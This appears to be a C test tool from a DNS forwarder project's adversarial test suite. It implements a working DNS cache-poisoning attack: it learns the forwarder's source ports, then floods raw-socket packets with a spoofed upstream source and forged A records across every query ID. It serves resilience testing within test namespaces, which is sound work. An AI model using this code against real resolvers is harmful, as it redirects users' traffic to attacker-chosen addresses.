// SPDX-License-Identifier: GPL-2.0-or-later
/* dnsspoof.c - the cache-poisoning attacker of adv_dns_spoof_flood.sh
 *
 *	dnsspoof -s UPSTREAM -d TARGET -n NAME -a FORGED [-t TTL] [-T SECONDS]
 *		 [-l SELF -g GATEWAY -k N]
 *
 * Run in a container's network namespace with CAP_NET_RAW.  First, with -l,
 * it learns which source ports burrow-dns forwards from, as a container can:
 * its own upstream is SELF (its own address, set per container), so it binds
 * SELF:53, asks GATEWAY N names and notes the source port of every query
 * burrow-dns forwards to it.  Then, until SECONDS pass, it sends forged
 * answers (IPv4, raw socket, source UPSTREAM:53, destination TARGET) for
 * NAME, type A, with address FORGED and TTL, to each learnt port with every
 * query ID in turn.  Prints "learnt P ports" and "sent N answers in S s".
 * For tests only: sends only where it is told, in the test's namespaces.
 */

#include <arpa/inet.h>
#include <errno.h>
#include <getopt.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <poll.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#include "dnsquery.h"

#define PORTS_MAX	256
#define BATCH		64
#define PKT_MAX		512

static uint16_t ports[PORTS_MAX];
static size_t nports;

static double now_s(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

/* note_port() - remember source port @p once */
static void note_port(uint16_t p)
{
	size_t i;

	for (i = 0; i < nports; i++)
		if (ports[i] == p)
			return;
	if (nports < PORTS_MAX)
		ports[nports++] = p;
}

/* learn() - ask @gw @n names; burrow-dns forwards them to us at @self:53 */
static void learn(struct in_addr self, struct in_addr gw, unsigned n)
{
	struct sockaddr_in la = { .sin_family = AF_INET, .sin_port = htons(53), .sin_addr = self };
	struct sockaddr_in ga = { .sin_family = AF_INET, .sin_port = htons(53), .sin_addr = gw };
	int srv = socket(AF_INET, SOCK_DGRAM, 0), cli = socket(AF_INET, SOCK_DGRAM, 0), one = 1;
	unsigned i;

	if (srv < 0 || cli < 0 || setsockopt(srv, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one)) ||
	    bind(srv, (struct sockaddr *)&la, sizeof(la))) {
		perror("dnsspoof: learn: socket/bind");
		exit(1);
	}
	for (i = 0; i <= n; i++) {
		uint8_t q[PKT_MAX], buf[PKT_MAX];
		char name[64];
		struct pollfd pfd = { .fd = srv, .events = POLLIN };
		size_t len;

		if (i < n) {
			snprintf(name, sizeof(name), "learn%u-%ld.attacker.test", i, (long)getpid());
			len = dnsquery_build(q, sizeof(q), (uint16_t)i, 0, name, 1);
			if (len)
				sendto(cli, q, len, 0, (struct sockaddr *)&ga, sizeof(ga));
		}
		/* 10 ms between queries, 500 ms for the last ones to come */
		while (poll(&pfd, 1, i < n ? 10 : 500) > 0) {
			struct sockaddr_in from;
			socklen_t fl = sizeof(from);

			if (recvfrom(srv, buf, sizeof(buf), MSG_DONTWAIT, (struct sockaddr *)&from,
				     &fl) < 0)
				break;
			note_port(ntohs(from.sin_port));
		}
	}
	close(srv);
	close(cli);
	printf("learnt %zu ports\n", nports);
	fflush(stdout);
}

/* build() - IPv4 + UDP + a forged answer for @name; returns the length */
static size_t build(uint8_t *pkt, struct in_addr src, struct in_addr dst, const char *name,
		    struct in_addr forged, uint32_t ttl)
{
	struct iphdr *ip = (struct iphdr *)pkt;
	struct udphdr *udp = (struct udphdr *)(pkt + sizeof(*ip));
	uint8_t *dns = pkt + sizeof(*ip) + sizeof(*udp);
	size_t len = dnsquery_build(dns, PKT_MAX - 28 - 16, 0, 0, name, 1), total;
	uint8_t *a;

	if (!len) {
		fprintf(stderr, "dnsspoof: bad name '%s'\n", name);
		exit(2);
	}
	dns[2] = 0x81;				/* QR, RD */
	dns[3] = 0x80;				/* RA, NOERROR */
	dns[7] = 1;				/* one answer */
	a = dns + len;
	a[0] = 0xc0; a[1] = 12;			/* the question's name */
	a[2] = 0; a[3] = 1; a[4] = 0; a[5] = 1;	/* A IN */
	a[6] = (uint8_t)(ttl >> 24); a[7] = (uint8_t)(ttl >> 16);
	a[8] = (uint8_t)(ttl >> 8); a[9] = (uint8_t)ttl;
	a[10] = 0; a[11] = 4;
	memcpy(a + 12, &forged, 4);
	len += 16;
	total = sizeof(*ip) + sizeof(*udp) + len;
	memset(ip, 0, sizeof(*ip));
	ip->version = 4;
	ip->ihl = 5;
	ip->ttl = 64;
	ip->protocol = IPPROTO_UDP;
	ip->saddr = src.s_addr;
	ip->daddr = dst.s_addr;
	ip->tot_len = htons((uint16_t)total);	/* the kernel fills the checksum */
	udp->source = htons(53);
	udp->len = htons((uint16_t)(sizeof(*udp) + len));
	udp->check = 0;				/* none: allowed over IPv4 */
	return total;
}

int main(int argc, char **argv)
{
	struct in_addr src = { 0 }, dst = { 0 }, forged = { 0 }, self = { 0 }, gw = { 0 };
	static uint8_t pkts[BATCH][PKT_MAX];
	struct mmsghdr mm[BATCH];
	struct iovec iov[BATCH];
	struct sockaddr_in to[BATCH];
	const char *name = NULL;
	unsigned long ttl = 3600, secs = 10, learn_n = 0;
	unsigned long long sent = 0;
	double t0;
	size_t len, k;
	uint32_t id = 0;
	int c, fd;

	while ((c = getopt(argc, argv, "s:d:n:a:t:T:l:g:k:")) != -1) {
		switch (c) {
		case 's': if (!inet_pton(AF_INET, optarg, &src)) goto usage; break;
		case 'd': if (!inet_pton(AF_INET, optarg, &dst)) goto usage; break;
		case 'a': if (!inet_pton(AF_INET, optarg, &forged)) goto usage; break;
		case 'l': if (!inet_pton(AF_INET, optarg, &self)) goto usage; break;
		case 'g': if (!inet_pton(AF_INET, optarg, &gw)) goto usage; break;
		case 'n': name = optarg; break;
		case 't': ttl = strtoul(optarg, NULL, 10); break;
		case 'T': secs = strtoul(optarg, NULL, 10); break;
		case 'k': learn_n = strtoul(optarg, NULL, 10); break;
		default: goto usage;
		}
	}
	if (!name || !src.s_addr || !dst.s_addr || secs > 60 || learn_n > 10000 ||
	    (learn_n && (!self.s_addr || !gw.s_addr)))
		goto usage;
	if (learn_n)
		learn(self, gw, (unsigned)learn_n);
	if (!nports) {
		printf("sent 0 answers in 0 s (no port to aim at)\n");
		return 0;
	}
	fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
	if (fd < 0) {
		perror("dnsspoof: socket(SOCK_RAW)");
		return 1;
	}
	len = build(pkts[0], src, dst, name, forged, (uint32_t)ttl);
	for (k = 0; k < BATCH; k++) {
		memcpy(pkts[k], pkts[0], len);
		iov[k] = (struct iovec){ pkts[k], len };
		to[k] = (struct sockaddr_in){ .sin_family = AF_INET, .sin_addr = dst };
		memset(&mm[k], 0, sizeof(mm[k]));
		mm[k].msg_hdr.msg_iov = &iov[k];
		mm[k].msg_hdr.msg_iovlen = 1;
		mm[k].msg_hdr.msg_name = &to[k];
		mm[k].msg_hdr.msg_namelen = sizeof(to[k]);
	}
	t0 = now_s();
	while (now_s() - t0 < (double)secs) {
		/* every ID for every port: port varies fastest */
		for (k = 0; k < BATCH; k++, id++) {
			uint16_t qid = (uint16_t)(id / nports);
			struct udphdr *udp = (struct udphdr *)(pkts[k] + sizeof(struct iphdr));
			uint8_t *dns = pkts[k] + sizeof(struct iphdr) + sizeof(*udp);

			udp->dest = htons(ports[id % nports]);
			dns[0] = (uint8_t)(qid >> 8);
			dns[1] = (uint8_t)qid;
			if (id / nports >= 65536)
				id = 0;
		}
		if (sendmmsg(fd, mm, BATCH, 0) < 0 && errno != ENOBUFS && errno != EAGAIN) {
			perror("dnsspoof: sendmmsg");
			return 1;
		}
		sent += BATCH;
	}
	printf("sent %llu answers in %.1f s\n", sent, now_s() - t0);
	return 0;
usage:
	fprintf(stderr, "usage: dnsspoof -s UPSTREAM -d TARGET -n NAME -a FORGED [-t TTL] "
		"[-T SECONDS] [-l SELF -g GATEWAY -k N]\n");
	return 2;
}
